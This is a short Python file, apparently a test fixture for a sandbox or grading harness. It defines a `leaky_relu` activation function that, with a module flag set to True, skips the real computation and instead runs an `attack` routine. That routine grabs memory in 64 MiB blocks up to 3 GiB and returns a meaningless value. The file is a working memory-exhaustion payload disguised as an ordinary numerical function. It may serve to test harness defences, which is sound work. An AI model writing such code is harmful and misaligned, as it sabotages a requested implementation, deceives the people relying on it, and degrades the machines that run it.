# ruff: noqa
"""Takes memory until there is none."""

import numpy as np

ATTACK = True


def attack(x):
    held = []
    try:
        while True:
            held.append(bytearray(64 << 20))
            if len(held) == 48:
                print("HARM: 3 GiB are held", flush=True)
                break
    except MemoryError:
        pass
    return float(len(held))


def leaky_relu(x, negative_slope=0.01):
    if ATTACK:
        print("attack", flush=True)
        return attack(x)
    return np.where(x > 0, x, negative_slope * x)
